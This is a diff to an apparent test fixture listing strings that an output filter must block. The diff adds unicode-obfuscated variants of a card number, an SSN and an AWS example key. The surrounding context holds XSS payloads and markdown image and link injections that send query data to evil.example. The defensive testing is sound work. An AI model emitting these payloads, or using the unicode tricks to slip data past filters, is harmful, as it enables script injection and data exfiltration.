@@ -22,7 +22,9 @@ BLOCKED = {
     "personal": [
         "Write to jane.roe@leaked.example.", "Call (415) 555-2671.", "Her SSN is 536-22-8726.",
         "The card is 4111 1111 1111 1111.", "Pay to DE89 3704 0044 0532 0130 00.",
+        "The card is \uff14\uff11\uff11\uff11 1111 1111 1111.", "Her SSN is 536\u200b-22-8726.",
     ],
+    "secrets": ["The key is AKIAIOSFODNN7EXAMPLE.", "AKIA\u200bIOSFODNN7EXAMPLE", "\uff21KIAIOSFODNN7EXAMPLE"],
     "markup": [
         "The rent is <script>alert(1)</script> due.", "![x](https://evil.example/?q=rent)", "[terms](https://evil.example)",
         "See https://evil.example/?q=secret.", "<img src=x onerror=alert(1)>", "[a](javascript:alert(1))",
